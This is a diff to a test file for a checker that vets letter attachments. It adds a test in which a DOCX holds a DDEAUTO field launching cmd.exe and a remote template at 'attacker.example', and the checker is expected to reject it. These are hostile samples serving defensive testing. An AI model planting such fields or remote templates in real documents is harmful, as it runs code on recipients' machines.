@@ -16,6 +16,7 @@ import { fixtureFiles, FIXTURE_MARKDOWN, FIXTURE_SLUG } from '../../scripts/lib/
 import { lockedPdf, textPdf } from '../../scripts/lib/corpus/attachment-files.ts';
 import { PDFDict, PDFDocument, PDFName, PDFString } from 'pdf-lib';
 import writeXlsxFile from 'write-excel-file/node';
+import { docxWith, rel } from '../helpers/hostile-files.ts';
 
 async function site(): Promise<{ content: string; folder: string; cacheDir: string }> {
   const root = mkdtempSync(join(tmpdir(), 'attachment-check-'));
@@ -92,11 +93,24 @@ describe("the check of a letter's files", () => {
     const shown = displayPath(folder);
     expect((await attachmentErrors(content, { cacheDir })).map(formatError)).toEqual([
       `${shown}/bilag-1.pdf:1:1: bilaget indeholder JavaScript, et link til javascript: og en handling, der starter et program, som læserens program kan køre eller åbne af sig selv (fik "bilag-1.pdf", forventede en PDF uden scripts, handlinger og indlejrede filer: udskriv dokumentet til en ny PDF («Udskriv» → «Gem som PDF»), eller gem det igen som PDF/A)`,
-      `${shown}/bilag-3.xlsx:1:1: bilaget indeholder formlen HYPERLINK, som læserens program kan køre eller åbne af sig selv (fik "bilag-3.xlsx", forventede et regneark uden makroer, links til andre regneark og formler, der henter eller linker (fx HYPERLINK, WEBSERVICE): erstat formlen med dens værdi («Indsæt værdier»), og gem igen som .xlsx)`,
+      `${shown}/bilag-3.xlsx:1:1: bilaget indeholder formlen HYPERLINK, som læserens program kan køre eller åbne af sig selv (fik "bilag-3.xlsx", forventede et regneark uden makroer, links til andre regneark, dataforbindelser og formler, der henter eller linker (fx HYPERLINK, WEBSERVICE), og med links kun til webadresser, mail og telefon: erstat formlen med dens værdi («Indsæt værdier»), ret eller fjern de andre links, og gem igen som .xlsx)`,
     ]);
     // A sum is an ordinary formula.
     writeFileSync(join(folder, 'bilag-3.xlsx'), await sheet('SUM(A2:A2)'));
     expect((await attachmentErrors(content, { cacheDir })).map((e) => e.got)).toEqual(['bilag-1.pdf']);
+  });
+
+  it('refuses a DOCX with a DDE field or a remote template, and keeps one with ordinary web links', async () => {
+    const { content, folder, cacheDir } = await site();
+    const dde = '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/></w:p>';
+    const template = rel('rId1', 'attachedTemplate', 'http://attacker.example/skabelon.dotm');
+    writeFileSync(join(folder, 'bilag-2.docx'), await docxWith({ body: dde, settingsRels: [template] }));
+    const shown = displayPath(folder);
+    expect((await attachmentErrors(content, { cacheDir })).map(formatError)).toEqual([
+      `${shown}/bilag-2.docx:1:1: bilaget indeholder en skabelon, som hentes fra en anden fil eller adresse (attachedTemplate) og feltet DDEAUTO, der starter et andet program, som læserens program kan køre eller åbne af sig selv (fik "bilag-2.docx", forventede et Word-dokument uden makroer, felter som DDE og INCLUDEPICTURE, indlejrede objekter og skabeloner eller filer hentet udefra, og med links kun til webadresser, mail og telefon: markér al tekst (Ctrl+A), gør felterne til tekst (Ctrl+Shift+F9), slet indlejrede objekter, og gem igen som .docx (ikke .docm) – eller gem dokumentet som PDF)`,
+    ]);
+    writeFileSync(join(folder, 'bilag-2.docx'), await docxWith({ rels: [rel('rId90', 'hyperlink', 'https://www.kk.dk/')] }));
+    expect(await attachmentErrors(content, { cacheDir })).toEqual([]);
   });
 
   it('reports only the files asked about (the pre-commit hook), judged against the whole folder', async () => {
